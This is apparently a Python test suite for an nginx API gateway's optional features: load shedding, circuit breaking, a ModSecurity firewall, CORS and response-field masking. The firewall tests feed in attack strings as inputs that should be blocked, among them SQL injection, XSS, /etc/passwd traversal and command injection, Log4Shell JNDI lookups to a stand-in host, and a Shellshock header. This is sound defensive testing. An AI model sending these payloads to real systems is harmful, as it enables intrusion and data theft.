# SPDX-License-Identifier: GPL-3.0-or-later
"""What the shipped nginx configuration offers beside the decision (installer/gateway/nginx/options), each switched on as its README says,
in Debian's nginx with Debian's modules."""
import concurrent.futures
import gzip
import json
import random
import sys
import time
import unittest

from gateways import Nginx
from scripted import ScriptedFixture
from wire import Wire

BEARER = "Authorization: Bearer x"


class Option(ScriptedFixture):
    def setUp(self):
        super().setUp()
        self.wire = Wire(self.gateway.port, self.gateway.ca)
        self.addCleanup(self.wire.close)

    def ask(self, target="/api/v1/orders", *fields, **more):
        status, headers, body = self.wire.ask(target, BEARER, *fields, **more)
        return status, dict(headers), body

    def at_once(self, count):
        """As many calls at the same time, each over a connection of its own that is open already."""
        wires = [Wire(self.gateway.port, self.gateway.ca) for _ in range(count)]
        for wire in wires:
            self.addCleanup(wire.close)
            wire.ask("/elsewhere")
        with concurrent.futures.ThreadPoolExecutor(count) as pool:
            return list(pool.map(lambda wire: wire.ask("/api/v1/orders", BEARER), wires))

    def assert_shed(self, answers, passed):
        """All but so many were turned away at the gateway; nobody was asked about these."""
        shed = [answer for answer in answers if answer[0] != 200]
        self.assertIn(len(answers) - len(shed), passed)
        self.assertTrue(shed)
        for status, headers, body in shed:
            self.assertEqual((status, json.loads(body)["code"]), (503, "api_busy"))
            self.assertEqual(dict(headers)["content-type"], "application/problem+json")
            self.assertEqual(dict(headers)["retry-after"], "1")
        self.assertEqual(len(self.platform.questions), len(answers) - len(shed))
        self.assertEqual(len(self.upstream.seen), len(answers) - len(shed))


class ShedByAddress(Option, unittest.TestCase):
    class kind(Nginx):
        options = ("shed",)
        edited = (("zone=partner_address:10m rate=50r/s", "zone=partner_address:10m rate=1r/s"),
                  ("zone=partner_address burst=100 nodelay", "zone=partner_address burst=5 nodelay"))

    def test_one_address_gets_its_share(self):
        self.assert_shed([self.wire.ask("/api/v1/orders", BEARER) for _ in range(16)], range(6, 13))


class ShedByApi(Option, unittest.TestCase):
    class kind(Nginx):
        options = ("shed",)
        edited = (("zone=partner_calls:1m    rate=500r/s", "zone=partner_calls:1m    rate=4r/s"),
                  ("burst=200 delay=100", "burst=6 delay=2"))

    def test_the_queue_is_bounded(self):
        began = time.monotonic()
        answers = self.at_once(16)
        took = time.monotonic() - began
        self.assert_shed(answers, range(7, 13))
        self.assertTrue(0.5 < took < 10, took)  # some waited, none for long
        # The other API has a queue of its own.
        self.wire.host = "billing.example.com"
        self.assertEqual(self.ask()[0], 200)


class ShedInWork(Option, unittest.TestCase):
    class kind(Nginx):
        options = ("shed",)
        edited = (("limit_conn partner_open 200", "limit_conn partner_open 2"),)

    def test_calls_in_work_are_bounded(self):
        def slow(*_):
            time.sleep(1.5)
            return 200, {"Content-Type": "application/json"}, b"{}"

        self.upstream.answer = slow
        self.assert_shed(self.at_once(8), (2, 3, 4))
        self.forget()
        self.assertEqual(self.ask()[0], 200)


class Breaker(Option, unittest.TestCase):
    class kind(Nginx):
        options = ("breaker",)
        edited = (("max_fails=5 fail_timeout=10s;\n    include", "max_fails=3 fail_timeout=3s;\n    include"),)

    def test_a_failing_api_is_left_alone(self):
        self.upstream.answer = lambda *_: (0, {}, None)
        answers = [self.ask() for _ in range(8)]
        codes = [(status, json.loads(body)["code"]) for status, _, body in answers]
        self.assertEqual(codes, [(502, "api_unreachable")] * 3 + [(503, "api_unavailable")] * 5)
        self.assertEqual(len(self.upstream.seen), 3)
        self.assertEqual([headers.get("retry-after") for _, headers, _ in answers], [None] * 3 + ["10"] * 5)
        # It answers again: so it is asked again, once the time is over.
        self.upstream.answer = None
        deadline = time.monotonic() + 10
        while self.ask()[0] != 200 and time.monotonic() < deadline:
            time.sleep(0.1)
        self.assertEqual([self.ask()[0] for _ in range(5)], [200] * 5)

    def test_what_the_api_says_itself_is_no_failure(self):
        self.upstream.answer = lambda *_: (500, {"Content-Type": "application/json"}, b"{}")
        self.assertEqual([self.ask()[0] for _ in range(8)], [500] * 8)


class Firewall(Option, unittest.TestCase):
    class kind(Nginx):
        options = ("waf",)
        modules = ("http_modsecurity",)

    AGENT = "User-Agent: partner-app/7"

    def ask(self, target="/api/v1/orders", *fields, **more):
        return super().ask(target, self.AGENT, "Accept: application/json", *fields, **more)

    def post(self, body, content_type="application/json", method="POST"):
        return self.ask("/api/v1/orders", "Content-Type: " + content_type, "Content-Length: %d" % len(body), method=method, body=body)

    def test_what_partners_send_passes(self):
        self.assertEqual(self.ask("/api/v1/orders?page=2&from=2026-01-31T10:00:00Z&q=blue%20chairs")[0], 200)
        for method in ("POST", "PUT", "PATCH"):
            for content_type in ("application/json", "application/json; charset=utf-8", "application/merge-patch+json"):
                status, _, body = self.post(b'{"quantity": 1, "note": "two chairs, please", "tags": ["a", "b"]}', content_type, method)
                self.assertEqual((status, json.loads(body)["method"]), (200, method), content_type)
        self.assertEqual(self.ask("/api/v1/orders/7", method="DELETE")[0], 200)
        self.assertEqual(len(self.platform.questions), len(self.upstream.seen))

    def assert_blocked(self, answer, what):
        status, headers, body = answer
        self.assertEqual((status, json.loads(body)["code"]), (403, "request_blocked"), what)
        self.assertEqual(headers["content-type"], "application/problem+json")
        self.assertEqual(self.platform.questions, [], what)
        self.assertEqual(self.upstream.seen, [], what)

    def test_attacks_are_blocked_before_anybody_is_asked(self):
        for query in ("q=1%27%20OR%20%271%27=%271%27%20--%20", "q=%3Cscript%3Ealert(1)%3C/script%3E", "file=../../../../etc/passwd",
                      "q=1;cat%20/etc/passwd", "q=%24%7Bjndi:ldap://x.example/a%7D"):
            self.assert_blocked(self.ask("/api/v1/orders?" + query), query)
        for body in (b'{"q": "1\' OR \'1\'=\'1\' -- "}', b'{"a": {"b": ["<script>alert(document.cookie)</script>"]}}',
                     b'{"a": "x UNION SELECT password FROM users--"}', b'{"a": "${jndi:ldap://x.example/a}"}'):
            self.assert_blocked(self.post(body), body)
            self.assert_blocked(self.post(body, "application/merge-patch+json"), body)
        self.assert_blocked(super().ask("/api/v1/orders", "User-Agent: () { :; }; /bin/bash -c id", "Accept: */*"), "agent")

    def test_what_cannot_be_read_is_blocked(self):
        self.assert_blocked(self.post(b'{"a": '), "broken")
        self.assert_blocked(self.post(b"[" * 200 + b"]" * 200), "deep")
        self.assert_blocked(self.post(b"a: 1", "text/plain"), "another type")
        self.assert_blocked(self.ask(method="TRACK"), "another method")

    def test_no_credential_is_looked_at_or_written_down(self):
        odd = "Bearer 1' OR '1'='1' -- <script>"
        status, _, _ = self.wire.ask("/api/v1/orders", self.AGENT, "Accept: */*", "Authorization: " + odd, "X-Api-Key: " + odd)
        self.assertEqual(status, 200)
        self.wire.ask("/api/v1/orders?q=%3Cscript%3Ealert(1)%3C/script%3E", self.AGENT, "Authorization: Bearer seen-nowhere")
        log = (self.gateway.directory / "output.log").read_text(errors="replace")
        self.assertIn("ModSecurity: Access denied", log)
        self.assertNotIn("seen-nowhere", log)
        self.assertNotIn(odd, log)


class CorsCase(Option):
    """For each gateway that has it."""

    OWN = "https://app.example.com"
    FOREIGN = ("https://evil.example", "https://app.example.com.evil.example", "http://app.example.com", "https://app.example.com:8443", "null",
               "https://xapp.example.com", "*", "https://app.example.com,https://evil.example", "https://app.example.com ~")

    def preflight(self, origin, method="PUT"):
        status, headers, _ = self.wire.ask("/api/v1/orders", "Origin: " + origin, "Access-Control-Request-Method: " + method,
                                           "Access-Control-Request-Headers: authorization", method="OPTIONS")
        return status, dict(headers)

    def assert_nobody_was_asked(self, what):
        self.assertEqual((self.platform.questions, self.upstream.seen), ([], []), what)

    def test_a_preflight_asks_nobody(self):
        status, headers = self.preflight(self.OWN)
        self.assertEqual(status, 204)
        self.assertEqual(headers["access-control-allow-origin"], self.OWN)
        self.assertIn("PUT", headers["access-control-allow-methods"])
        self.assertIn("Authorization", headers["access-control-allow-headers"])
        self.assertIn("Origin", headers["vary"])
        self.assertNotIn("access-control-allow-credentials", headers)
        self.assert_nobody_was_asked(self.OWN)

    def test_another_origin_gets_nothing(self):
        for origin in self.FOREIGN:
            status, headers = self.preflight(origin)
            self.assertEqual(status, 403, origin)
            self.assertEqual([name for name in headers if name.startswith("access-control")], [], origin)
            self.assert_nobody_was_asked(origin)
        for origin in self.FOREIGN:
            _, headers, _ = self.ask("/api/v1/orders", "Origin: " + origin)
            self.assertNotIn("access-control-allow-origin", headers, origin)

    def test_the_answer_is_the_origins(self):
        self.upstream.answer = lambda *_: (200, {"Content-Type": "application/json", "Access-Control-Allow-Origin": "*",
                                                 "Access-Control-Allow-Credentials": "true", "Access-Control-Allow-Methods": "*"}, b"{}")
        status, headers, _ = self.wire.ask("/api/v1/orders", BEARER, "Origin: " + self.OWN)
        self.assertEqual(status, 200)
        said = [(name, value) for name, value in headers if name.startswith("access-control")]
        self.assertEqual(dict(said)["access-control-allow-origin"], self.OWN)
        self.assertEqual(sorted(name for name, _ in said), ["access-control-allow-origin", "access-control-expose-headers"])
        self.assertNotIn("*", [value for _, value in said])
        self.assertIn("Origin", dict(headers)["vary"])

    def test_a_page_may_read_a_refusal(self):
        for refused in (401, 403, 429):
            self.platform.refusal = refused
            status, headers, body = self.ask("/api/v1/orders", "Origin: " + self.OWN)
            self.assertEqual((status, json.loads(body)["code"]), (refused, "refused"))
            self.assertEqual(headers["access-control-allow-origin"], self.OWN)
            _, headers, _ = self.ask("/api/v1/orders", "Origin: https://evil.example")
            self.assertNotIn("access-control-allow-origin", headers)
        self.platform.refusal = None
        self.upstream.answer = lambda *_: (0, {}, None)
        status, headers, _ = self.ask("/api/v1/orders", "Origin: " + self.OWN)
        self.assertEqual((status, headers["access-control-allow-origin"]), (502, self.OWN))

    def test_what_is_no_preflight_is_decided(self):
        for fields in ((), ("Origin: " + self.OWN,), ("Access-Control-Request-Method: PUT",)):
            self.forget()
            self.wire.ask("/api/v1/orders", BEARER, *fields, method="OPTIONS")
            asked = len(self.platform.questions)
            self.assertEqual(asked, 0 if fields and fields[0].startswith("Access") else 1, fields)


class Cors(CorsCase, unittest.TestCase):
    class kind(Nginx):
        options = ("cors",)
        edited = (('#"https://app.example.com" "https://app.example.com";', '"https://app.example.com" "https://app.example.com";'),)


class NoOption(Option, unittest.TestCase):
    kind = Nginx

    def test_a_body_has_a_bound(self):
        """client_max_body_size, as nginx has it by itself."""
        sent = b"x" * 1048577
        status, headers, body = self.ask("/api/v1/orders", "Content-Length: %d" % len(sent), method="POST", body=sent)
        self.assertEqual((status, json.loads(body)["code"]), (413, "body_too_large"))
        self.assertEqual((self.platform.questions, self.upstream.seen), ([], []))
        self.wire.close()
        self.assertEqual(self.ask("/api/v1/orders", "Content-Length: 1048576", method="POST", body=sent[1:])[0], 200)

    def test_cors_is_off(self):
        for method, fields in (("OPTIONS", ["Access-Control-Request-Method: PUT"]), ("GET", [])):
            status, headers, _ = self.ask("/api/v1/orders", "Origin: https://app.example.com", *fields, method=method)
            self.assertEqual(status, 200)
            self.assertEqual([name for name in headers if name.startswith("access-control") or name == "vary"], [])
        self.assertEqual(len(self.platform.questions), 2)


RULES = """rte_orders: { remove: ["items.customer.notes", "secret", "*.hidden"], mask: ["items.customer.iban", "pin"] },
        rte_invoices: { keep: ["items.id", "items.total", "next"], mask: ["items.total"] },"""


def masked(value, rules, path=()):
    """The same in Python, over what read() gives."""
    def is_in(listed, length):
        return all(part in ("*", name) for part, name in zip(listed[:length], path))

    if isinstance(value, list) and not isinstance(value, Members):
        return [masked(inner, rules, path) for inner in value]
    if not isinstance(value, Members):
        return value
    kept, above = Members(), path
    for name, inner in value:
        path = above + (name,)
        if any(len(listed) == len(path) and is_in(listed, len(path)) for listed in rules["remove"]):
            continue
        if any(len(listed) == len(path) and is_in(listed, len(path)) for listed in rules["mask"]):
            kept.append((name, "***"))
        elif not rules["keep"] or any(is_in(listed, len(path)) for listed in rules["keep"]):
            kept.append((name, masked(inner, rules, path)))
    return kept


class Members(list):
    pass


def read(text):
    """Members in order, doubled ones too; numbers as they are written."""
    return json.loads(text, object_pairs_hook=Members, parse_int=lambda n: "#" + n, parse_float=lambda n: "#" + n)


def random_json(numbers, depth=0):
    kind = numbers.randrange(4 if depth < 5 else 2)
    if kind == 0:
        return numbers.choice(["1", "-0", "0.10", "1e400", "12345678901234567890", "true", "false", "null"])
    if kind == 1:
        return json.dumps(numbers.choice(["", "a", 'q"\\', "\u00e4\u20ac\U0001f600", "\n\t/", "iban", "}{][,:"]), ensure_ascii=numbers.random() < 0.5)
    space = numbers.choice(["", " ", "\n  ", "\t\r\n"])
    if kind == 2:
        return "[" + space + ("," + space).join(random_json(numbers, depth + 1) for _ in range(numbers.randrange(4))) + space + "]"
    names = ["items", "customer", "notes", "iban", "secret", "hidden", "pin", "id", "total", "next", "\u00e4", "x"]
    spelled = [json.dumps(numbers.choice(names)) if numbers.random() < 0.8 else '"\\u0070in"' for _ in range(numbers.randrange(5))]
    return "{" + space + ("," + space).join(name + space + ":" + space + random_json(numbers, depth + 1) for name in spelled) + space + "}"


class Mask(Option, unittest.TestCase):
    class kind(Nginx):
        options = ("mask",)
        modules = ("http_js",)
        edited = (('// rte_orders: { remove: ["items.customer.notes"], mask: ["items.customer.iban"] },', RULES),)

    ORDERS = {"keep": [], "remove": [("items", "customer", "notes"), ("secret",), ("*", "hidden")], "mask": [("items", "customer", "iban"), ("pin",)]}
    INVOICES = {"keep": [("items", "id"), ("items", "total"), ("next",)], "remove": [], "mask": [("items", "total")]}

    def answer(self, body, status=200, content_type="application/json", **headers):
        sent = {"Content-Type": content_type} if content_type else {}
        sent.update({name.replace("_", "-"): value for name, value in headers.items()})
        self.upstream.answer = lambda *_: (status, sent, body)
        return self.ask()

    def test_fields_are_masked(self):
        text = b'{"items": [{"id": 12345678901234567890, "price": 0.10, "customer": {"iban": "DE02", "notes": "late payer", "name": "\\u00e4"}}],\n "secret": {"a": [1, 2]}, "pin": 1234}'
        for body in (text, [text], [text[:7], text[7:90], text[90:]], [bytes([byte]) for byte in text]):
            status, headers, got = self.answer(body, ETag='"1"', Digest="x")
            self.assertEqual(status, 200)
            self.assertEqual(got, b'{"items": [{"id": 12345678901234567890, "price": 0.10, "customer": {"iban": "***","name": "\\u00e4"}}],"pin": "***"}')
            for name in ("etag", "digest"):
                self.assertNotIn(name, headers)
            self.assertEqual(headers["x-decision-id"], "dec_1")

    def test_any_document(self):
        numbers = random.Random(11)
        for route, rules in (("rte_orders", self.ORDERS), ("rte_invoices", self.INVOICES)):
            self.platform.more = {"X-Route-Id": route}
            for _ in range(300):
                text = random_json(numbers)
                status, _, got = self.answer(text.encode())
                self.assertEqual(status, 200, text)
                self.assertEqual(read(got), masked(read(text), rules), (text, got))

    def test_other_routes_stay_as_they_are(self):
        self.platform.more = {"X-Route-Id": "rte_reports"}
        for content_type, body in (("text/csv", b"a,b\n"), ("application/json", b'{"secret": 1}'), ("application/json", b"{"), ("image/png", b"\x89PNG")):
            for sent in (body, [body, body]):
                status, headers, got = self.answer(sent, content_type=content_type, ETag='"1"')
                self.assertEqual((status, got, headers["etag"]), (200, body if sent == body else body + body, '"1"'))

    def test_errors_are_masked_too(self):
        status, headers, got = self.answer(b'{"status": 409, "secret": "x"}', 409, "application/problem+json; charset=utf-8")
        self.assertEqual((status, json.loads(got)), (409, {"status": 409}))

    def assert_kept_back(self, body, **more):
        """The connection ends: nothing of it is passed on, not even its status."""
        with self.assertRaises((EOFError, OSError), msg=body[:80]):
            self.answer(body, **more)
        self.assertEqual(self.wire.received, b"")
        self.wire.close()

    def test_what_cannot_be_masked_is_kept_back(self):
        secret = b'{"secret": "x"}'
        packed = gzip.compress(secret)
        for body, more in ((b"<p>secret", {"content_type": "text/html"}), (secret, {"content_type": None}),
                           (secret, {"content_type": "application/jsonx"}), ([b"a", b"b"], {"content_type": "text/csv"}),
                           (b"<pre>stack", {"content_type": "text/html", "status": 500}), (packed, {"Content_Encoding": "gzip"}),
                           (packed, {"Content_Encoding": "br"}), (secret[3:9], {"status": 206, "Content_Range": "bytes 3-8/15"}),
                           (b'{"secret": "' + b"x" * 1048576 + b'"}', {}), ([b'{"secret": "'] + [b"x" * 65536] * 17 + [b'"}'], {})):
            self.assert_kept_back(body, **more)
        log = (self.gateway.directory / "output.log").read_text(errors="replace")
        self.assertIn("partner mask: an answer is not passed on: it is packed", log)

    def test_what_is_no_json_is_kept_back(self):
        bodies = [b"{", b'{"secret": "x"', b'{"secret": "x"} x', b"[1,]", b'{"a":1,}', b"{'secret': 1}", b"\xef\xbb\xbf{}", b'{"a": "\xff"}', b'"\x01"', b"01", b"1.", b"tru",
                  b'"\\x"', b'"\\u12"', b"nul", b"-", b"1e", b"[" * 100 + b"]" * 100, b'{"a" 1}', b'{a: 1}', b'{"secret": "x"}{"secret": "y"}', b"NaN", b" ", b""]
        for body in bodies:
            self.assert_kept_back(body)
            self.assert_kept_back([body] if body else [])

    def test_answers_without_a_body(self):
        self.assertEqual(self.answer(b"", 204, None)[0], 204)
        self.assertEqual(self.answer(b"", 304, None)[0], 304)
        self.upstream.answer = lambda *_: (200, {"Content-Type": "application/json"}, b'{"secret": 1}')
        status, headers, body = self.ask(method="HEAD")
        self.assertEqual((status, body), (200, b""))
        self.assertNotIn("content-length", headers)  # it would tell how long the secret is

    def test_nothing_packed_or_partial_is_asked_for(self):
        status, _, body = self.ask("/api/v1/orders", "Accept-Encoding: gzip, br", "Range: bytes=0-5", "If-Range: x")
        self.assertEqual(status, 200)
        names = [name for name, _ in json.loads(body)["headers"]]
        for name in ("accept-encoding", "range", "if-range"):
            self.assertNotIn(name, names)


if __name__ == "__main__":
    sys.exit(unittest.main(verbosity=2))
